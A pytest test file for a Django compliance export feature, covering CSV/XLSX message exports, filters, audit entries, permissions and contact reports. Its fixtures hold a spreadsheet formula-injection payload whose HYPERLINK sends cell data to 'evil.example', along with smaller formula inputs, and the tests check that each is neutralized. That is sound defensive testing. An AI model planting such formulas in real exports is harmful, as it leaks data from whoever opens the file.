"""What compliance staff export: one row per message with why it went (CSV and XLSX, filtered),
formula cells neutralized, XLSX refused past its limit, every export audited, one contact's report
as one workbook, and only for the roles that hold omni.export_auditentry."""
import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from campaigns.models import Campaign, CampaignRecipient, Enrollment, EnrollmentState, Journey, JourneyStepVisit, JourneyVersion
from channels import routing
from channels.models import Message, MessageSource
from compliance.actions import record_consent_change
from compliance.models import Suppression
from contacts.models import Contact
from omni import audit
from omni.lib.spreadsheet import read_xlsx
from omni.models import AuditEntry
from omni.web import exports
from templates.models import Template, TemplateVersion

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EXPORT_URL = "omni-web:message-export"


@pytest.fixture
def staff_client(client, django_user_model, role_groups):
    def login(group_name: str):
        user = django_user_model.objects.create_user(username=f"e-{group_name.lower().replace(' ', '-')}",
                                                     password="not-used", is_staff=True)
        user.groups.add(Group.objects.get(name=group_name))
        client.force_login(user)
        return client

    return login


@pytest.fixture
def compliance_client(staff_client):
    return staff_client("Compliance")


@pytest.fixture
def alice(db):
    contact = Contact.objects.create(external_id="alice", email="alice@example.com", phone="+14155550101",
                                     first_name="Alice")
    record_consent_change(contact, "email", "marketing", "granted", "form", evidence={"form": "signup"},
                          lawful_basis="consent", announce=False)
    return contact


@pytest.fixture
def template_version(db):
    template = Template.objects.create(key="welcome", name="Welcome", purpose="marketing")
    return TemplateVersion.objects.create(template=template, number=3, purpose="marketing", variants=[
        {"channel": "email", "locale": "en", "subject": "Hi", "text_body": "Hello {{ first_name }}"}])


def send(contact, *, purpose="marketing", plan=("email",), template_version=None, source=MessageSource.API):
    message, _ = routing.create_message(
        contact=contact, source=source, purpose=purpose, channel_plan=[{"channel": c} for c in plan],
        template_version=template_version,
        content=None if template_version else [{"channel": c, "subject": "Hi", "text_body": "Hello"} for c in plan])
    routing.dispatch(message)
    message.refresh_from_db()
    return message


@pytest.fixture
def journey_message(alice, template_version):
    """A journey's welcome email to Alice, through the gate (allowed by her consent)."""
    journey = Journey.objects.create(name="Onboarding", slug="onboarding")
    version = JourneyVersion.objects.create(journey=journey, number=2, trigger_type="event")
    enrollment = Enrollment.objects.create(journey=journey, journey_version=version, contact=alice,
                                           state=EnrollmentState.ACTIVE)
    message = send(alice, template_version=template_version, source=MessageSource.JOURNEY)
    JourneyStepVisit.objects.create(enrollment=enrollment, journey=journey, journey_version=version, step_key="welcome",
                                    step_kind="send", visit_number=1, message=message)
    return message


@pytest.fixture
def campaign_message(alice, template_version):
    """A campaign's SMS to Alice, refused: she never opted in to marketing by SMS."""
    campaign = Campaign.objects.create(name=FORMULA, template=template_version.template)
    message = send(alice, plan=("sms",), source=MessageSource.CAMPAIGN)
    CampaignRecipient.objects.create(campaign=campaign, contact=alice, message=message)
    return message


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def xlsx_rows(response, sheet="Messages") -> list[dict]:
    header, *rows = read_xlsx(io.BytesIO(b"".join(response.streaming_content)))[sheet]
    return [dict(zip(header, row + [""] * (len(header) - len(row)))) for row in rows]


def test_each_message_exports_with_its_journey_template_consent_rules_and_outcome(
        compliance_client, journey_message, campaign_message, alice):
    # when
    response = compliance_client.get(reverse(EXPORT_URL), {"format": "csv"})

    # then
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="omni-messages-')
    journey_row, campaign_row = csv_rows(response)
    assert list(journey_row) == exports.MESSAGE_HEADER
    consent = alice.consent_changes.get(channel="email")
    assert journey_row | {"created_at": "", "rules": ""} == {
        "message_id": str(journey_message.pk), "created_at": "", "contact_id": str(alice.pk),
        "contact_external_id": "alice", "contact_email": "alice@example.com", "contact_phone": "+14155550101",
        "channel": "email", "channels_tried": "email", "purpose": "marketing",
        "source": "journey Onboarding, step welcome", "template": "welcome", "template_version": "3",
        "journey": "Onboarding", "journey_version": "2", "journey_step": "welcome", "campaign": "",
        "campaign_variant": "", "consent_change_id": str(consent.pk), "consent_status": "granted",
        "consent_lawful_basis": "consent", "consent_source": "form", "consent_at": exports.cell_time(consent.occurred_at),
        "decision_outcome": "allow", "decision_reason": "consent:granted", "decision_in_words": "", "rules": "",
        "message_status": "queued", "delivery_status": "queued", "provider": "sandbox", "sent_at": "",
        "delivered_at": "", "error_code": "", "error_message": ""}
    assert journey_row["created_at"] == exports.cell_time(journey_message.created_at)
    assert journey_row["rules"] == ("email step 0 allow: expiry pass; address pass; contact_pause pass; "
                                    "suppression pass; consent pass; marketing pass; channel_pause pass; "
                                    "conversation_hold pass")
    # the refused SMS: its campaign (a formula, neutralized), the rule that failed and why in words
    assert campaign_row["campaign"] == "'" + FORMULA
    assert (campaign_row["channel"], campaign_row["decision_outcome"], campaign_row["message_status"]) == (
        "sms", "suppress", "suppressed")
    assert campaign_row["decision_reason"] == "no_marketing_consent"
    assert campaign_row["decision_in_words"] == "The contact has not opted in to marketing by SMS."
    assert "; consent pass; marketing suppress (no_marketing_consent); channel_pause pass;" in campaign_row["rules"]
    assert campaign_row["delivery_status"] == ""


def test_the_xlsx_export_has_the_same_columns_and_neutralizes_formulas(compliance_client, journey_message,
                                                                        campaign_message):
    csv_export = csv_rows(compliance_client.get(reverse(EXPORT_URL), {"format": "csv"}))

    response = compliance_client.get(reverse(EXPORT_URL), {"format": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_TYPE
    rows = xlsx_rows(response)
    assert rows == csv_export
    assert rows[1]["campaign"] == "'" + FORMULA


def test_a_formula_in_a_contact_field_is_neutralized_in_csv_and_xlsx(compliance_client, db):
    mallory = Contact.objects.create(external_id="@SUM(1+1)", email="m@example.com", phone="+14155550102")
    send(mallory, purpose="transactional")

    as_csv = csv_rows(compliance_client.get(reverse(EXPORT_URL), {"format": "csv"}))
    as_xlsx = xlsx_rows(compliance_client.get(reverse(EXPORT_URL), {"format": "xlsx"}))

    # a phone number stays a number; the formula becomes text
    assert [(r["contact_external_id"], r["contact_phone"]) for r in as_csv] == [("'@SUM(1+1)", "+14155550102")]
    assert [(r["contact_external_id"], r["contact_phone"]) for r in as_xlsx] == [("'@SUM(1+1)", "+14155550102")]


@pytest.fixture
def spread(alice, journey_message, campaign_message):
    """Alice's journey email and campaign SMS, and Bob's transactional email two days ago."""
    bob = Contact.objects.create(external_id="bob", email="bob@example.com")
    old = send(bob, purpose="transactional")
    Message.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=2))
    return {"journey": journey_message, "campaign": campaign_message, "old": old}


@pytest.mark.parametrize("filters, expected", [
    ({}, ["old", "journey", "campaign"]),
    ({"channel": "sms"}, ["campaign"]),
    ({"channel": "email"}, ["old", "journey"]),
    ({"purpose": "transactional"}, ["old"]),
    ({"outcome": "suppressed"}, ["campaign"]),
    ({"contact": "bob@example.com"}, ["old"]),
    ({"contact": "alice"}, ["journey", "campaign"]),
    ({"since": "SINCE"}, ["journey", "campaign"]),
    ({"until": "SINCE"}, ["old"]),
    ({"journey": "JOURNEY"}, ["journey"]),
    ({"campaign": "CAMPAIGN"}, ["campaign"]),
])
def test_the_filters_choose_the_messages(compliance_client, spread, filters, expected):
    since = (timezone.now() - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
    values = {"SINCE": since, "JOURNEY": str(Journey.objects.get().pk), "CAMPAIGN": str(Campaign.objects.get().pk)}
    params = {key: values.get(value, value) for key, value in filters.items()}

    rows = csv_rows(compliance_client.get(reverse(EXPORT_URL), {"format": "csv", **params}))

    assert [row["message_id"] for row in rows] == [str(spread[name].pk) for name in expected]


def test_a_bad_filter_is_refused_naming_the_field_and_nothing_is_exported(compliance_client, alice):
    response = compliance_client.get(reverse(EXPORT_URL), {"format": "csv", "contact": "nobody", "channel": "fax"})

    assert response.status_code == 400
    page = response.content.decode()
    assert "Contact: No contact has this external id or email address." in page
    assert "Channel: Select a valid choice." in page
    assert not AuditEntry.objects.filter(action__startswith="messages.").exists()


def test_an_xlsx_past_its_row_limit_is_refused_and_points_at_csv(compliance_client, alice, settings):
    settings.OMNI_EXPORT_XLSX_MAX_ROWS = 2
    for _ in range(3):
        send(alice, purpose="transactional")

    response = compliance_client.get(reverse(EXPORT_URL), {"format": "xlsx"})

    assert response.status_code == 400
    assert "3 messages match, more than an Excel export holds (2). Choose CSV" in response.content.decode()
    assert not AuditEntry.objects.filter(action__startswith="messages.").exists()
    # at the limit it is made
    settings.OMNI_EXPORT_XLSX_MAX_ROWS = 3
    assert len(xlsx_rows(compliance_client.get(reverse(EXPORT_URL), {"format": "xlsx"}))) == 3


def test_every_export_is_audited_with_its_filters_and_row_count(compliance_client, spread):
    user = compliance_client.get(reverse(EXPORT_URL)).wsgi_request.user

    csv_response = compliance_client.get(reverse(EXPORT_URL), {"format": "csv", "channel": "email"})
    started = AuditEntry.objects.get(action="messages.export_started")
    # the stream records its start before any row, its count after the last
    assert not AuditEntry.objects.filter(action="messages.exported").exists()
    assert len(csv_rows(csv_response)) == 2
    compliance_client.get(reverse(EXPORT_URL), {"format": "xlsx", "purpose": "transactional"}).getvalue()

    finished = list(AuditEntry.objects.filter(action="messages.exported").order_by("id"))
    assert started.actor_id == user.pk and started.data["channel"] == "email" and started.reason == "csv"
    assert [(e.reason, e.actor_id, e.data["rows"]) for e in finished] == [("csv", user.pk, 2), ("xlsx", user.pk, 1)]
    assert finished[0].data["started"] == started.pk and finished[0].data["channel"] == "email"
    assert finished[1].data["purpose"] == "transactional" and finished[1].data["channel"] == ""


@pytest.mark.parametrize("group_name", ["Support agents", "Marketers"])
def test_only_roles_that_may_export_the_audit_log_export_messages_and_reports(staff_client, alice, group_name):
    client = staff_client(group_name)

    page = client.get(reverse(EXPORT_URL))
    download = client.get(reverse(EXPORT_URL), {"format": "csv"})
    report = client.get(reverse("omni-web:contact-report", args=[alice.pk]))

    assert (page.status_code, download.status_code, report.status_code) == (403, 403, 403)
    assert not AuditEntry.objects.filter(action__in=["messages.export_started", "contact.report_exported"]).exists()


@pytest.mark.parametrize("group_name", ["Compliance", "Administrators"])
def test_compliance_and_administrators_find_the_export_in_their_navigation(staff_client, group_name):
    client = staff_client(group_name)

    home = client.get(reverse("admin:index")).content.decode()
    page = client.get(reverse(EXPORT_URL))

    assert reverse(EXPORT_URL) in home
    assert page.status_code == 200 and 'id="message-export-form"' in page.content.decode()


def exported_with_queries(client, count: int, contact) -> int:
    for _ in range(count):
        send(contact, purpose="transactional")
    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(client.get(reverse(EXPORT_URL), {"format": "csv", "contact": contact.external_id}))
    assert len(rows) == count
    return len(queries)


def test_the_export_of_200_messages_takes_as_many_queries_as_of_10(compliance_client, alice, db):
    bob = Contact.objects.create(external_id="bob", email="bob@example.com")

    few = exported_with_queries(compliance_client, 10, alice)
    many = exported_with_queries(compliance_client, 200, bob)

    assert many == few
    assert few <= 16


def test_the_contact_report_has_a_sheet_for_each_part_of_the_trail(compliance_client, journey_message,
                                                                   campaign_message, alice):
    Suppression.objects.create(address="alice@example.com", channel="email", reason="complaint", detail=FORMULA)
    audit.record("contact.note", contact=alice, reason="-1+1")

    response = compliance_client.get(reverse("omni-web:contact-report", args=[alice.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_TYPE
    workbook = read_xlsx(io.BytesIO(b"".join(response.streaming_content)))
    assert list(workbook) == exports.REPORT_SHEETS
    sent, decisions, consents, suppressions, entries = (workbook[name] for name in exports.REPORT_SHEETS)
    assert sent[0] == exports.SENT_HEADER and [row[0] for row in sent[1:]] == [str(journey_message.pk),
                                                                               str(campaign_message.pk)]
    assert sent[1][exports.SENT_HEADER.index("to_address")] == "alice@example.com"
    decision_rows = [dict(zip(decisions[0], row)) for row in decisions[1:]]
    assert [(d["outcome"], d["lawful_basis"]) for d in decision_rows] == [("allow", "consent"), ("suppress", "")]
    assert decision_rows[1]["in_words"] == "The contact has not opted in to marketing by SMS."
    assert [row[2:5] for row in consents[1:]] == [["email", "marketing", "granted"]]
    assert suppressions[1][exports.SUPPRESSION_HEADER.index("detail")] == "'" + FORMULA
    assert "'-1+1" in [row[exports.AUDIT_REPORT_HEADER.index("reason")] for row in entries[1:]]
    report_entry = AuditEntry.objects.get(action="contact.report_exported")
    assert report_entry.contact_id == alice.pk
    assert report_entry.data["rows"] == {"Messages as sent": 2, "Decisions": 2, "Consent changes": 1,
                                         "Suppressions": 1, "Audit entries": len(entries) - 1}


def test_the_timeline_links_the_report_for_compliance_only(staff_client, alice):
    url = reverse("omni-web:contact-report", args=[alice.pk])

    compliance = staff_client("Compliance").get(reverse("omni-web:timeline", args=[alice.pk])).content.decode()
    support = staff_client("Support agents").get(reverse("omni-web:timeline", args=[alice.pk])).content.decode()

    assert url in compliance
    assert url not in support

